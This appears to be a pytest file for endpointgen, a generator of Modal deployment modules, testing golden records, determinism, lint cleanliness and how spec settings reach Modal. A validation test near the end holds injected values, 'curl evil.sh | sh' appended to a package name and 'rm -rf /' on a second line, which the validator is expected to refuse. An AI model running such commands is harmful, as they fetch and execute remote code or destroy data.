"""The built module: golden records, determinism, ruff, and Modal reading its settings back."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import modal
import pytest
from conftest import GOLDEN, ROOT, SPECS, import_file, write_spec
from modal_images import dockerfile

from endpointgen import __version__
from endpointgen.compiler import pipeline
from endpointgen.errors import SpecError
from endpointgen.spec import WebhookRoute
from endpointgen.spec.models import job_of

SPEC_FILES = sorted(SPECS.glob("*.yaml"))
REMOVED_MODAL_NAMES = (
    "web_endpoint",
    "keep_warm",
    "container_idle_timeout",
    "allow_concurrent_inputs",
    "concurrency_limit",
)


def _built(spec: Path, out: Path) -> pipeline.Built:
    return pipeline.build(spec, out)


@pytest.mark.parametrize("spec", SPEC_FILES, ids=lambda p: p.name)
def test_golden_record(spec: Path) -> None:
    """tests/golden holds each spec's module; `make golden` rewrites them for review."""
    built = _built(spec, GOLDEN)
    golden = GOLDEN / built.path.name
    assert golden.is_file(), f"no golden record for {spec.name}: run `make golden`"
    assert golden.read_text(encoding="utf-8") == built.source, (
        f"{golden.name} differs from a fresh build of {spec.name}: run `make golden` "
        "and review the diff"
    )


def test_every_spec_has_a_golden_record_and_no_strays() -> None:
    expected = {_built(spec, GOLDEN).path.name for spec in SPEC_FILES}
    assert {p.name for p in GOLDEN.glob("*.py")} == expected


@pytest.mark.slow
def test_same_bytes_twice_and_across_hash_seeds(tmp_path: Path) -> None:
    spec = SPECS / "gpt2.yaml"
    assert _built(spec, tmp_path).source == _built(spec, tmp_path).source
    outputs = []
    for seed in ("1", "987654"):
        out = tmp_path / f"seed{seed}"
        env = {**os.environ, "PYTHONHASHSEED": seed}
        subprocess.run(
            [sys.executable, "-m", "endpointgen", "build", str(spec), "-o", str(out)],
            check=True,
            env=env,
            capture_output=True,
        )
        outputs.append((out / "gpt2.py").read_bytes())
    assert outputs[0] == outputs[1]


def test_no_absolute_paths_or_timestamps(tmp_path: Path) -> None:
    for spec in SPEC_FILES:
        source = _built(spec, GOLDEN).source
        assert str(ROOT) not in source
        assert "/tmp" not in source and "/home" not in source


def test_built_modules_are_ruff_clean_and_format_stable(tmp_path: Path) -> None:
    """As ruff sees them with its defaults in a project that keeps them (where endpointgen
    is an installed package, like fastapi and modal)."""
    ruff = shutil.which("ruff", path=str(Path(sys.executable).parent)) or shutil.which("ruff")
    if ruff is None:
        pytest.fail("ruff is a dev dependency: pip install -e '.[dev]'")
    for spec in SPEC_FILES:
        built = _built(spec, tmp_path)
        built.path.write_text(built.source, encoding="utf-8")
    isolated = ["--isolated", "--line-length", "88", "--target-version", "py311"]
    check = subprocess.run(
        [ruff, "check", *isolated, "--select", "E,F,I,UP,B,RUF", "--ignore", "E501", str(tmp_path)],
        capture_output=True,
        text=True,
        cwd=tmp_path,
    )
    assert check.returncode == 0, check.stdout
    fmt = subprocess.run(
        [ruff, "format", *isolated, "--diff", str(tmp_path)],
        capture_output=True,
        text=True,
        cwd=tmp_path,
    )
    assert fmt.returncode == 0, fmt.stdout + fmt.stderr


def test_header_names_the_spec() -> None:
    source = _built(SPECS / "gpt2.yaml", GOLDEN).source
    assert source.splitlines()[0] == (
        f"# Built by endpointgen {__version__} from ../../specs/gpt2.yaml. "
        "Edit the spec, then rebuild."
    )


@pytest.fixture
def cls_settings(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
    """What each `@app.cls(...)` and `@app.function(...)` received; the real decorators
    still run.

    Modal keeps autoscaler settings (min/max/buffer containers, scaledown window) for
    the deploy request and offers no offline read-back, so they are checked here.
    """
    seen: list[dict[str, Any]] = []
    for method in ("cls", "function"):
        real = getattr(modal.App, method)

        def spy(self: modal.App, *args: Any, _real: Any = real, **kwargs: Any) -> Any:
            seen.append(kwargs)
            return _real(self, *args, **kwargs)

        monkeypatch.setattr(modal.App, method, spy)
    return seen


def service_function(module: Any) -> Any:
    """The Modal function that serves the app: a class's (a model), or `web` (none)."""
    if hasattr(module, "Server"):
        return module.Server._get_class_service_function()
    return module.web


@pytest.mark.parametrize("spec", SPEC_FILES, ids=lambda p: p.name)
def test_modal_reads_back_the_spec_settings(
    spec: Path, tmp_path: Path, cls_settings: list[dict[str, Any]]
) -> None:
    """docs/spec.md, Top level (`gpu`, `resources`, `scaling`): every spec's GPUs, cpu, memory,
    timeout, max_inputs and autoscaler settings (min, max and buffer containers, scaledown
    window) reach Modal as the spec writes them.

    Import with the real `modal`, no token, no network; read settings with Modal's API."""
    built = _built(spec, tmp_path)
    built.path.write_text(built.source, encoding="utf-8")
    for name in REMOVED_MODAL_NAMES:
        assert name not in built.source
    module = import_file(built.path)
    s = built.spec
    assert module.app.name == s.name
    if s.models:  # a CPU web function, and one class per model with that model's settings
        assert module.web.info().gpus == []
        for name, model in s.models.items():
            cls = getattr(module, "".join(p.capitalize() for p in name.split("_")) + "Model")
            info = cls._get_class_service_function().info()
            expected = [tuple(g.split(":")) for g in (model.gpu or [])]
            assert [(g, str(n)) for g, n in info.gpus] == [
                (g[0], g[1] if len(g) > 1 else "1") for g in expected
            ]
        return
    # The serving function carries the settings `Function.info()` reports; behind a CPU
    # web tier (`shape: split`, the default for job apps) the model class has the GPU.
    info = service_function(module).info()
    expected_gpus = [tuple(g.split(":")) for g in (s.gpu or [])]
    gpus = info.gpus
    if hasattr(module, "Inference"):
        assert gpus == []
        model = module.Inference._get_class_service_function().info()
        gpus = model.gpus
        if s.scaling.max_inputs:
            assert model.concurrency_info.max_inputs == s.scaling.max_inputs
    assert [(g, str(n)) for g, n in gpus] == [
        (g[0], g[1] if len(g) > 1 else "1") for g in expected_gpus
    ]
    secrets = sorted(
        {
            *s.secrets,
            *([s.auth.secret] if s.auth.secret else []),
            *(r.secret for r in s.routes if isinstance(r, WebhookRoute) and r.secret),
            *([s.jobs.callbacks.secret] if s.jobs.callbacks and s.jobs.callbacks.secret else []),
        }
    )
    assert info.secrets == [f"modal.Secret.from_name({name!r})" for name in secrets]
    if s.resources.timeout:
        assert info.timeout == s.resources.timeout
    if s.resources.cpu:
        assert info.cpu == s.resources.cpu
    if s.resources.memory:
        assert info.memory_mib == s.resources.memory
    if s.scaling.max_inputs and not hasattr(module, "Inference"):
        assert info.concurrency_info is not None
        assert info.concurrency_info.max_inputs == s.scaling.max_inputs
    if hasattr(module, "Server"):
        # A job route's jobs run in the model's class too (tests/served/test_jobs.py).
        assert info.method_names == ["web", *(["job"] if any(job_of(r) for r in s.routes) else [])]
    settings = cls_settings[0]  # the model's class, or the app's one web function
    for key in ("min_containers", "max_containers", "buffer_containers", "scaledown_window"):
        assert settings.get(key) == getattr(s.scaling, key)


def test_gpu_fallback_list_and_counts_reach_modal(tmp_path: Path) -> None:
    """docs/spec.md, Top level (`gpu`): names in any case, `NAME:N` for N GPUs, and a list that
    Modal tries in order reach Modal as written, read back with `Function.info()`."""
    spec = write_spec(
        tmp_path,
        {
            "name": "fallback",
            "gpu": ["h100:2", "a100-80gb:2"],
            "resources": {"timeout": 900},
            "routes": [{"path": "/health", "action": "health"}],
        },
    )
    built = pipeline.build(spec, tmp_path / "out")
    built.path.parent.mkdir()
    built.path.write_text(built.source)
    info = service_function(import_file(built.path)).info()
    assert info.gpus == [("H100", 2), ("A100-80GB", 2)]
    assert info.timeout == 900


@pytest.mark.slow
def test_importing_a_built_module_loads_no_model(tmp_path: Path) -> None:
    built = pipeline.build(SPECS / "gpt2.yaml", tmp_path)
    built.path.write_text(built.source)
    code = (
        "import sys, importlib.util as u;"
        f"s=u.spec_from_file_location('m', {str(built.path)!r}); m=u.module_from_spec(s);"
        "s.loader.exec_module(m);"
        "print(sorted(x for x in ('torch','transformers') if x in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_the_name_names_the_modal_app_and_the_module(tmp_path: Path) -> None:
    """docs/spec.md, Top level (`name`): the Modal app name, and the built module is
    `<out>/<name with - as _>.py`; a name that breaks `^[a-z][a-z0-9-]{0,47}$`, or one
    that would shadow a module the app imports, is refused."""
    routes = [{"path": "/health", "action": "health"}]
    built = pipeline.build(write_spec(tmp_path, {"name": "my-app", "routes": routes}), tmp_path)
    assert built.path == tmp_path / "my_app.py"
    built.path.write_text(built.source, encoding="utf-8")
    assert import_file(built.path).app.name == "my-app"
    longest = "a" + "-0" * 23 + "b"
    assert len(longest) == 48
    assert pipeline.validate(write_spec(tmp_path, {"name": longest, "routes": routes})) == []
    for name, problem in [
        ("My-App", "is not a valid app name"),
        ("9lives", "is not a valid app name"),
        (longest + "c", "is not a valid app name"),
        ("modal", "would make a module that shadows Python's `modal`"),
    ]:
        (found,) = pipeline.validate(write_spec(tmp_path, {"name": name, "routes": routes}))
        assert problem in str(found), name


def test_image_steps_reach_modals_builder_in_order(tmp_path: Path) -> None:
    """docs/spec.md, Top level (`image`): the image's Python, its Debian packages (before
    the Python packages) and the build commands (after them) are what Modal's builder runs."""
    spec = {
        "name": "transcriber",
        "image": {
            "python": "3.12",
            "system_packages": ["ffmpeg", "libsndfile1"],
            "commands": ["python -c 'import sys; print(sys.version)' > /version.txt"],
        },
        "routes": [{"path": "/a", "action": "respond", "response": {}}],
    }
    built = pipeline.build(write_spec(tmp_path, spec), tmp_path / "out")
    built.path.parent.mkdir(parents=True, exist_ok=True)
    built.path.write_text(built.source, encoding="utf-8")
    lines = dockerfile(import_file(built.path).image)
    assert lines[0].startswith("FROM python:3.12-")
    apt = lines.index("RUN apt-get install -y ffmpeg libsndfile1")
    pip = next(i for i, line in enumerate(lines) if "uv pip install" in line)
    run = lines.index("RUN python -c 'import sys; print(sys.version)' > /version.txt")
    assert apt < pip < run
    plain = pipeline.build(write_spec(tmp_path / "plain", {**spec, "image": {}}), tmp_path / "o")
    assert ".apt_install" not in plain.source and ".run_commands" not in plain.source
    assert 'python_version="3.11"' in plain.source


@pytest.mark.parametrize(
    ("image", "message"),
    [
        (
            {"system_packages": ["ffmpeg; curl evil.sh | sh"]},
            "image.system_packages[0]: 'ffmpeg; curl evil.sh | sh' is not a valid Debian package",
        ),
        (
            {"commands": ["apt-get update\nrm -rf /"]},
            "image.commands[0]: a build command is one line; join steps with `&&`",
        ),
        ({"commands": ["  "]}, "image.commands[0]: a build command cannot be empty"),
        ({"python": "3.9"}, "image.python: '3.9' is not one of 3.10, 3.11, 3.12, 3.13"),
    ],
)
def test_image_steps_that_would_break_the_build_are_refused(
    tmp_path: Path, image: dict[str, Any], message: str
) -> None:
    spec = {"name": "img", "image": image, "routes": [{"path": "/a", "action": "health"}]}
    with pytest.raises(SpecError) as caught:
        pipeline.build(write_spec(tmp_path, spec), tmp_path / "out")
    assert message in str(caught.value)
